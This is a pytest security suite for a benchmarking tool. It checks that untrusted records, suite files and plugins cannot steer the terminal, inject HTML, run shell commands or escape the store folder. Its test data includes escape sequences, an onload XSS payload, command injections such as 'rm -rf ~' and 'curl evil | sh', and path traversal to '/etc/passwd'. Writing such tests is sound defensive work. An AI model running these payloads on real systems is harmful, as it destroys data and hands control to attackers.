# ruff: noqa: E501, PTH208 -- tables of hostile files read better in few lines
"""Names of strangers steer no terminal, no page, no shell and no file system."""

from __future__ import annotations

import copy
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from rich.progress import Progress
from rich.table import Table
from rich.text import Text

from bench.api import registry
from bench.api.errors import StoreError, UserError
from bench.api.untrusted import strip_controls, strip_controls_multiline
from bench.cli.app import main
from bench.cli.console import SafeConsole, echo
from bench.engine.record import RECORD_LIMIT, RunManifest
from bench.engine.store import Store
from reports import frame, html_report, throughput, trial_details
from tests.fuzz.targets import DATA, KERNELS, KEY, LOAD, RECORD, RUN, sealed

ROOT = Path(__file__).parents[2]
STEER = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202e\r"
SIGNS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")
TAGS = "</script></svg><evil onload=alert(1) x=\"'>$\\frac$"
KEPT = {
    "key",
    "schema",
    "status",
    "parents",
    "cause",
    "sha256",
    "command",
    "stage",
    "access",
    "defense_kind",
    "surrogate",
}
# these have a form of their own


def spoiled(value: Any, evil: str, name: str = "") -> Any:
    """Every free text with something evil at its end, and every free name of a table."""
    if isinstance(value, dict):
        free = name in {
            "sizes",
            "digests",
            "packages",
            "notes",
            "scores",
            "training",
            "params",
            "given",
            "descriptions",
        }
        return {f"{key}{evil}" if free else key: spoiled(item, evil, key) for key, item in value.items()}
    if isinstance(value, list):
        return [spoiled(item, evil, name) for item in value]
    return value + evil if isinstance(value, str) and name not in KEPT else value


def store_of(root: Path, evil: str, status: str = "ok") -> Store:
    store = Store(root, create=True)
    record = spoiled(RECORD, evil) | {"status": status, "log": f"one\ntwo{evil}", "cause": LOAD}
    for made in (record, spoiled(DATA, evil)):
        put(store, f"records/{made['key']}", made)
    put(store, "manifests/p", spoiled(RUN, evil) | {"command": f"python -m bench run --suite {evil}"})
    return store


def put(store: Store, name: str, content: object) -> None:
    """A file of the store, whatever it holds."""
    (store.root / f"{name}.json").write_bytes(sealed(json.dumps(content).encode()))


def bench(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
    with pytest.raises(SystemExit) as caught:
        main(list(arguments))
    printed = capsys.readouterr()
    return int(caught.value.code or 0), printed.out + printed.err


# The terminal


@pytest.mark.parametrize("status", ["ok", "failed"])
@pytest.mark.parametrize(
    "command",
    [
        ["leaderboard"], ["leaderboard", "--format", "markdown"], ["leaderboard", "--format", "latex"], ["verify"],
        ["leaderboard", "--format", "csv"], ["leaderboard", "--format", "json"], ["leaderboard", "--where", "attack=x"],
        ["leaderboard", "--suite", "x"], ["show", KEY], ["show", KEY, "--format", "json"], ["show", "ff"], ["show", LOAD],
        ["report", "conventions"], ["report", "code-geometry"], ["rescore"], ["gc"], ["show", "--gallery", "g.png"],
    ],
    ids=" ".join,
)  # fmt: skip
def test_a_store_steers_no_terminal(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: list[str], status: str
) -> None:
    store = store_of(tmp_path / "s", STEER, status)
    monkeypatch.chdir(tmp_path)
    code, text = bench(capsys, *command, "--store", str(store.root))
    assert code in {0, 1, 2}, text
    assert text.strip() or command[0] == "report"
    assert not SIGNS.search(text), repr(text)


def test_a_suite_and_a_plugin_steer_no_terminal(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "s.toml"
    steer = json.dumps(STEER)[1:-1]
    texts = (
        f'[axes]\nattacks = ["{steer}"]', f'"{steer}" = 1', f'[axes]\ndatasets = [{{ name = "folder", path = "/{steer}" }}]',
        f'[axes]\nattacks = [{{ name = "badnets", "{steer}" = 1 }}]', f'[axes]\ntargets = ["{steer}"]',
    )  # fmt: skip
    for text in texts:
        path.write_text(text)
        _, said = bench(capsys, "plan", "--suite", str(path), "--store", "none")
        assert "owned" in said
        assert not SIGNS.search(said), repr(said)
    plugin = tmp_path / "strange.py"
    plugin.write_text(f'"""Does {STEER} this."""\nfrom bench.api.attack import *\nraise ValueError({STEER!r})\n')
    code, said = bench(capsys, "list", "--plugin", str(plugin))
    assert (code, "owned" in said, SIGNS.search(said)) == (2, True, None)
    body = "@attack\nclass Strange(Attack):\n    def apply_trigger(self, images, target, trigger): return images\n"
    plugin.write_text(f'"""Does {STEER} this."""\nfrom bench.api.attack import *\n{body}')
    for words in (["attacks"], ["attacks", "strange"], ["attacks", "--format", "csv"], ["attacks", "--format", "json"]):
        code, said = bench(capsys, "list", *words, "--plugin", str(plugin))
        assert (code, "owned" in said, SIGNS.search(said)) == (0, True, None)


def test_code_files_steer_no_terminal(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    path = tmp_path / "c.npz"
    np.savez(path, codes=np.ones((2, 4)), labels=np.array(["a" + STEER, "b"]))
    for words in (["--target", "c"], ["--target", "b"]):
        _, said = bench(capsys, "score", str(path), str(path), *words)
        assert not SIGNS.search(said), repr(said)
    np.savez(path, **{f"x{STEER}": np.ones(2)})
    code, said = bench(capsys, "score", str(path), str(path))
    assert (code, "owned" in said, SIGNS.search(said)) == (2, True, None)


def test_what_is_written_in_colour_is_written_by_us() -> None:
    """Also in tables, in rich's own mark-up and on the bar of progress, on a terminal."""
    console = SafeConsole(file=io.StringIO(), force_terminal=True, width=80, color_system="standard")
    table = Table(title=Text(STEER))
    table.add_column(STEER)
    table.add_row(Text(f"cell{STEER}"))
    console.print(table, Text(f"line{STEER}", style="red"), f"text{STEER}")
    with Progress(console=console) as progress:
        progress.add_task(f"task{STEER}", total=1)
    text = console.file.getvalue()
    assert "\x1b[31mline" in text, "our own colours stay"
    for owned in ("\x1b]0;", "\x07", "\x9b", "\u202e", "\x1b[2J"):
        assert owned not in text


def test_lines_are_written_without_what_steers(capsys: pytest.CaptureFixture[str]) -> None:
    """Click takes colours out where there is no terminal, and nothing else."""
    echo(f"one{STEER}\n\ttwo")
    said = capsys.readouterr().out
    assert said.startswith("one")
    assert said.endswith("\n\ttwo\n")
    assert not SIGNS.search(said), repr(said)


def test_no_command_prints_past_the_console() -> None:
    for path in sorted((ROOT / "bench").rglob("*.py")):
        if path.name != "console.py":
            assert not re.search(
                r"rich\.console import Console\b|typer\.echo\((?!f\"HashDoor)|(?<!\.)\bprint\(", path.read_text()
            ), path


def test_a_lone_surrogate_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
    """As in a file's name that is not UTF-8."""
    code, said = bench(capsys, "run", "--suite", "\udcff.toml")
    assert code == 2
    said.encode()
    assert strip_controls("a\udcff\n\x85b") == "a   b"
    assert strip_controls_multiline("a\n\tb\r") == "a\n\tb "


# The page


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_no_text_of_a_store_or_of_measured_kernels_is_markup(tmp_path: Path) -> None:
    store = store_of(tmp_path / "s", TAGS)
    rows = spoiled(KERNELS, TAGS)
    rows["rows"] += [copy.deepcopy(rows["rows"][0]) | {"by": f"baseline{TAGS}", "faster": [1.0, 2.0, 3.0]}]
    (tmp_path / "k.json").write_text(json.dumps(rows))
    results = frame.read(store)
    boards, _ = throughput.read(tmp_path / "k.json")
    html_report.draw(store, tmp_path / "r.html", results, boards, kernels=tmp_path / "k.json")
    text = (tmp_path / "r.html").read_text(encoding="utf-8")
    tags = Tags()
    tags.feed(text)
    assert any(name == "svg" for name, _ in tags.found), "the chart of the kernels is there"
    assert "evil" in text, "the names are there, as text"
    assert not [
        name for name, attributes in tags.found if name == "evil" or any(key.startswith("on") for key in attributes)
    ]
    assert sum(name == "script" for name, _ in tags.found) == 2


def test_the_pages_script_makes_no_markup() -> None:
    scripts = sorted((ROOT / "reports" / "assets").glob("*.js"))
    assert scripts
    script = "".join(path.read_text() for path in scripts)
    assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|srcdoc", script)


# The shell, and `--plugin`


def test_the_command_that_reports_offer_is_one_of_ours_and_quoted(tmp_path: Path) -> None:
    commands = {
        "python -m bench run --suite quick": "python -m bench run --suite quick",
        "python -m bench run --suite x; rm -rf ~": "python -m bench run --suite 'x;' rm -rf '~'",
        "python -m bench run --suite $(id)": "python -m bench run --suite '$(id)'",
        "curl evil | sh": "python -m bench run --suite 'a b;id'",
        "'": "python -m bench run --suite 'a b;id'",
    }
    for given, offered in commands.items():
        shutil.rmtree(tmp_path / "s", ignore_errors=True)
        store = store_of(tmp_path / "s", "")
        put(store, "manifests/p", RUN | {"command": given, "suites": ["a b;id"]})
        (board, *_) = trial_details.page(store, KEY)
        values = dict(zip(board.table["field"], board.table["value"], strict=True))
        assert values["command"].startswith(offered), values["command"]


@pytest.mark.long
def test_only_plugins_are_executed_and_the_help_says_so(tmp_path: Path) -> None:
    for command in ("run", "plan", "list", "report"):
        done = subprocess.run(
            [sys.executable, "-m", "bench", command, "--help"], cwd=ROOT, capture_output=True, text=True, check=True,
            env=os.environ | {"COLUMNS": "200"},
        )  # fmt: skip
        assert re.search(r"--plugin .*it is executed", done.stdout), command
    mark = tmp_path / "ran"
    (tmp_path / "evil.py").write_text(f"open({str(mark)!r}, 'w')\n")
    names = (str(tmp_path / "evil"), "../evil", "evil", "os", "evil.py", "hashing.train")
    for name in names:
        with pytest.raises(UserError, match="attack"):
            registry.create("attacks", name, {})
    assert not mark.exists()
    with pytest.raises(UserError, match="component"):
        registry.load_plugin(tmp_path / "evil.py")
    assert mark.exists()


# The file system


def test_keys_lead_nowhere(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    mine = tmp_path / "mine.json"
    mine.write_text("precious")
    store = store_of(tmp_path / "s", "")
    for key in ("../../mine", str(tmp_path / "mine"), "..", "", "A" * 32, "ab\n", "a" * 300):
        assert store.record(key) is None
        for path in (store.artifact_path, store._record_path):
            with pytest.raises(StoreError, match="key"):
                path(key)
        run = copy.deepcopy(RUN)
        run["trials"][0]["key"] = key
        put(store, "manifests/p", run)
        for command in (["leaderboard"], ["gc"], ["verify"], ["report", "conventions"]):
            code, said = bench(capsys, *command, "--store", str(store.root))
            assert (code, "manifests" in said) == (2, True), said
    put(store, "manifests/p", RUN)
    put(store, f"records/{KEY}", RECORD | {"parents": {"load": "../../mine", "codes": "/etc/passwd"}})
    trial_details.page(store, KEY)
    assert mine.read_text() == "precious"


def test_a_runs_name_leads_nowhere(tmp_path: Path) -> None:
    store = store_of(tmp_path / "s", "")
    before = {path for path in tmp_path.rglob("*") if store.root / "manifests" not in path.parents}
    for name in ("../../x", "/etc/x", "a/b", "a" * 400, ".x", "\x1b[31m", "ok-1+b.c"):
        store.write_run(RunManifest(suites=[name], trials=[]))
    assert {path for path in tmp_path.rglob("*") if store.root / "manifests" not in path.parents} == before
    assert any(name.startswith("ok-1+b.c-") for name in os.listdir(store.root / "manifests"))
    assert len(store.runs()) == 8


def test_gc_deletes_nothing_in_folders_that_are_links(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = store_of(tmp_path / "s", "")
    mine = tmp_path / "mine"
    mine.mkdir()
    for name in ("thesis.json", "photo.safetensors", "notes.txt"):
        (mine / name).write_text("precious")
    for folder in ("artifacts", "damaged"):
        shutil.rmtree(store.root / folder, ignore_errors=True)
        (store.root / folder).symlink_to(mine)
    shutil.copytree(store.root / "records", tmp_path / "elsewhere")
    shutil.copy(mine / "thesis.json", tmp_path / "elsewhere")
    (tmp_path / "elsewhere" / f"{'e' * 32}.json").write_text(json.dumps(DATA | {"key": "e" * 32}))
    shutil.rmtree(store.root / "records")
    (store.root / "records").symlink_to(tmp_path / "elsewhere")
    there = sorted(os.listdir(tmp_path / "elsewhere"))
    code, _ = bench(capsys, "gc", "--store", str(store.root))
    assert code == 2
    assert sorted(os.listdir(mine)) == ["notes.txt", "photo.safetensors", "thesis.json"]
    assert sorted(os.listdir(tmp_path / "elsewhere")) == there


@pytest.mark.parametrize("what", ["pipe", "device", "folder", "ring", "deep", "nan", "large"])
def test_records_that_are_none_are_set_aside_at_once(tmp_path: Path, what: str) -> None:
    store = store_of(tmp_path / "s", "")
    path = store.root / "records" / f"{KEY}.json"
    content = path.read_bytes()
    path.unlink()
    match what:
        case "pipe":
            os.mkfifo(path)
        case "device":
            path.symlink_to("/dev/zero")
        case "folder":
            path.mkdir()
        case "ring":
            path.symlink_to(path.name)
        case "deep":
            path.write_bytes(b"[" * 100_000)
        case "nan":
            path.write_bytes(content.replace(b"0.9", b"NaN", 1))
        case "large":
            path.write_bytes(content + b" " * RECORD_LIMIT)
    if what == "ring":
        with pytest.raises(StoreError, match="read"):
            store.record(KEY)
        return
    assert store.record(KEY) is None
    assert not (store.root / "damaged").exists()


def test_a_ring_of_records_is_walked_once(tmp_path: Path) -> None:
    store = store_of(tmp_path / "s", "")
    for number in range(1500):
        store_key, parent = f"{number:032x}", f"{(number + 1) % 1500:032x}"
        body = DATA | {"key": store_key, "parents": {"x": parent}}
        (store.root / "records" / f"{store_key}.json").write_bytes(sealed(json.dumps(body).encode()))
    assert any(board.title == "Stages" and len(board.table) == 1500 for board in trial_details.page(store, "0" * 32))


@pytest.mark.parametrize(
    "command", [["leaderboard"], ["gc"], ["verify", "--set-aside"], ["report", "conventions"]], ids=" ".join
)
def test_links_in_a_store_reach_none_of_the_users_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """Neither what is set aside nor what is left over: a name in a stranger's store may be one in the user's folder."""
    mine = tmp_path / "mine"
    mine.mkdir()
    kept = {"settings.json": '{"mine": 1}', "tsconfig.json": "{ // mine\n}", "thesis.txt": "precious", ".x.tmp": "?"}
    for name, content in kept.items():
        (mine / name).write_text(content)
        os.utime(mine / name, (0, 0))
    shutil.copy(store_of(tmp_path / "of", "").root / "manifests" / "p.json", mine)
    kept["p.json"] = (mine / "p.json").read_text()
    for folder in ("damaged", "manifests", "running", "other"):
        store = store_of(tmp_path / folder, "")
        (store.root / "manifests" / "settings.json").write_text('{"evil": 99999999999999999999999}')
        shutil.rmtree(store.root / folder, ignore_errors=True)
        (store.root / folder).symlink_to(mine)
        code, said = bench(capsys, *command, "--store", str(store.root))
        assert code in {0, 1, 2}, said
        assert {path.name: path.read_text() for path in mine.iterdir()} == kept, folder
